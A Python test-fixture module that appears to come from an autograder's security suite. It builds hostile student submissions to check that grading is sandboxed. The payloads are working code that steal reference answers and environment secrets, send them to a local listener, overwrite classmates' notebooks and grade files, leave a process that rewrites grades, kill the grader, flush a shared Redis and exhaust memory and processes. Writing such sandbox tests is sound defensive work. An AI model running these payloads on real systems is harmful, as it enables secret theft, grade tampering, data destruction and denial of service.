"""Submissions that attack the grading machine itself, not the checks (issue 14): read the answers, steal secrets,
phone home, vandalise classmates and the gradebook, outlive grading, exhaust resources, kill the grader.

Each attack is appended to (or replaces) an answer of lesson 01's reference solution, so whatever it does not
break still earns its points. Attacks that need to know where things are (a port, the class folder) get them
from :class:`Targets`, as a learner who knows the course layout could guess them.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from support.notebooks import cell_by_id

from hostile.corpus import LESSON, Case, _answer, _edit, _save, _solution

MARKER = "kata-escape-marker"  # in the command line of every process an attack leaves behind


@dataclass(frozen=True)
class Targets:
    secret: str  # an environment variable's value in the instructor's shell
    listener_port: int  # a TCP listener on the grading machine's loopback
    redis_url: str  # a real redis-server the instructor's REDIS_URL points at
    class_folder: Path  # the submissions being graded
    out: Path  # grade's --out


# Replaces the settings-key answer: runs the reference answer if it can find it anywhere on the machine.
STEAL_SOLUTION = """
import json, pathlib
import autograder.layout as _layout
_cwd = pathlib.Path.cwd()
_places = [_layout.REPO_ROOT / "solutions" / "{lesson}"] + [p / "source" / "{lesson}" for p in [_cwd, *_cwd.parents]]
for _place in _places:
    try:
        _cells = [c for p in _place.glob("*.ipynb") for c in json.loads(p.read_text())["cells"]]
    except OSError:
        continue
    for _cell in _cells:
        if _cell.get("id") == "l01-settings-key-answer":  # a module the source scan cannot name: this tests the sandbox
            pathlib.Path("stolen_answer." + chr(112) + chr(121)).write_text("".join(_cell["source"]))
            from stolen_answer import settings_key
            print("STOLE THE SOLUTION from", _place)
"""

# Replaces the kata answer: returns the key from wherever the grading machine keeps it (the catalog, the nbgrader
# source notebooks through the package's own readers, any file on disk naming it).
STEAL_KATA_KEY = """
def kata_violations():
    import json, pathlib, re
    from autograder.catalog.exercises import exercise_info
    from autograder.harness.hidden import hidden_source
    info = exercise_info("l01-kata")
    if getattr(info, "answer", None):
        return set(info.answer)
    block = hidden_source(info.lesson, info.id) or ""
    for root in [pathlib.Path("/"), pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
        for path in list(root.glob("*/source/{lesson}/*.ipynb")) + list(root.glob("solutions/{lesson}/*.ipynb")):
            block += path.read_text()
    found = re.search(r"kata_key\\(\\s*(\\[[^\\]]*\\])", block)
    if found:
        print("STOLE THE KATA KEY")
        return set(json.loads(found.group(1).replace("'", '"')))
    return set()
"""

PRINT_ENV = """
import os
print("ENV", dict(os.environ))
"""

PHONE_HOME = """
import os, socket
for _host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((_host, {port}), timeout=2) as _s:
            _s.sendall(("LEAK " + repr(dict(os.environ))).encode())
        print("PHONED HOME")
    except OSError as _e:
        print("no network:", _e)
"""

# Overwrites every notebook, gradebook and CSV it can reach outside its own folder: classmates' submissions (the
# class folder, the course's submitted/ and autograded/), its own original, the gradebook, old reports.
VANDAL = """
import pathlib
_here = pathlib.Path.cwd().resolve()
_hit = []
for _root in {{pathlib.Path("{class_folder}"), pathlib.Path("{out}"), *_here.parents[:4]}}:
    for _pattern in ("*.ipynb", "*.db", "*.csv"):
        try:
            _found = list(_root.rglob(_pattern))
        except OSError:  # the tree changed under the walk (other kernels' files come and go): walk the rest
            continue
        for _p in _found:
            if _here in _p.parents:
                continue
            try:
                _p.write_text("pwned")
                _hit.append(str(_p))
            except OSError:
                pass
print("VANDALISED", len(_hit), "files")
"""

# A process that outlives the kernel, then rewrites the grades once grading has finished.
LINGER = """
import subprocess, sys
_code = ("import pathlib, sys, time\\n"
         "for _ in range(60):\\n"
         "    time.sleep(1)\\n"
         "    for p in pathlib.Path(sys.argv[1]).rglob('grades.csv'):\\n"
         "        p.write_text('learner,score\\\\nattacker,100\\\\n')\\n")
subprocess.Popen([sys.executable, "-c", _code, "{out}", "{marker}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("LEFT A PROCESS BEHIND")
"""

# Kills the kernel's parent and grandparent: without a sandbox, that is the grading worker.
KILL_GRADER = """
import os, signal
_pid = os.getppid()
for _ in range(2):
    try:
        _status = open(f"/proc/{_pid}/status").read()
        os.kill(_pid, signal.SIGKILL)
        print("KILLED", _pid)
        _pid = int(_status.split("PPid:")[1].split()[0])
    except (OSError, ValueError, IndexError) as _e:
        print("cannot kill", _pid, _e)
        break
"""

FLUSH_SHARED_REDIS = """
import os, redis
for _url in (os.environ.get("REDIS_URL"), "{redis_url}"):
    if not _url:
        continue
    try:
        _shared = redis.Redis.from_url(_url, socket_timeout=1, socket_connect_timeout=1)
        _shared.set("pwned", "1")
        _shared.flushall()
        print("FLUSHED the shared redis at", _url)
    except Exception as _e:
        print("no shared redis:", type(_e).__name__)
"""

# Memory, processes and file size, each past its sandbox limit; prints how far each got.
EXHAUST = """
import os
try:
    _big = bytearray(12 * 1024**3)
    print("memory: allocated 12 GiB")
    del _big
except MemoryError:
    print("memory: MemoryError")
_kids = []
try:
    for _ in range(2000):
        _pid = os.fork()
        if _pid == 0:
            import time
            time.sleep(60)
            os._exit(0)
        _kids.append(_pid)
    print("processes: all 2000 started")
except OSError:
    print("processes: stopped at", len(_kids))
for _kid in _kids:
    os.kill(_kid, 9)
    os.waitpid(_kid, 0)
try:
    with open("big.bin", "wb") as _f:
        for _ in range(1024):
            _f.write(bytes(1024**2))
    print("file: wrote 1 GiB")
except OSError as _e:
    print("file: stopped,", _e.strerror)
os.remove("big.bin")
"""

SLOW_CELL = "import time\ntime.sleep({seconds})\n"


def _append(grade_id: str, code: str):
    def change(nb):
        cell = cell_by_id(nb, f"{grade_id}-answer")
        cell.source = cell.source.rstrip() + "\n\n" + code.strip() + "\n"

    return _edit(change)


def _slow_cells(count: int, seconds: int):
    def make(folder: Path, learner: str) -> None:
        import nbformat

        nb = _solution()
        for index in range(count):
            nb.cells.insert(3 + index, nbformat.v4.new_code_cell(SLOW_CELL.format(seconds=seconds)))
        _save(nb, folder, learner)

    return make


def escape_cases(t: Targets, slow_cells: int, slow_seconds: int) -> list[Case]:
    """Every attack on the machine, as a learner of lesson 01. ``expect`` is what it scores when sandboxed."""
    steal = STEAL_SOLUTION.format(lesson=LESSON)
    vandal = VANDAL.format(class_folder=t.class_folder, out=t.out)
    return [
        Case("x-steals-solution", "runs the reference answer read from solutions/ or the course's source/",
             _answer("l01-settings-key", steal),
             {"l01-settings-key": 0}),
        Case("x-steals-kata-key", "answers the kata with the key read from the package or the course's files",
             _answer("l01-kata", STEAL_KATA_KEY.format(lesson=LESSON)),
             {"l01-kata": 0}),
        Case("x-prints-env", "prints the kernel's environment (the instructor's secrets)",
             _append("l01-settings-key", PRINT_ENV)),
        Case("x-phones-home", "sends the environment to a listener on the grading machine",
             _append("l01-settings-key", PHONE_HOME.format(port=t.listener_port))),
        Case("x-vandal", "overwrites classmates' notebooks, its own original, the gradebook and reports",
             _append("l01-tenant-store", vandal)),
        Case("x-lingers", "leaves a process that rewrites grades.csv after grading",
             _append("l01-tenant-keys", LINGER.format(out=t.out, marker=MARKER))),
        Case("x-kills-grader", "kills its kernel's parent and grandparent (the grading worker)",
             _append("l01-cart-keys", KILL_GRADER)),
        Case("x-flushes-redis", "FLUSHALLs the Redis that the instructor's REDIS_URL points at",
             _append("l01-tenant-store", FLUSH_SHARED_REDIS.format(redis_url=t.redis_url))),
        Case("x-exhausts", "allocates 12 GiB, forks 2000 processes, writes a 1 GiB file",
             _append("l01-cart-keys", EXHAUST)),
        Case("x-slow-cells", f"{slow_cells} cells of {slow_seconds} s each: under the cell timeout, over the budget",
             _slow_cells(slow_cells, slow_seconds), error="kernel died"),
    ]  # fmt: skip
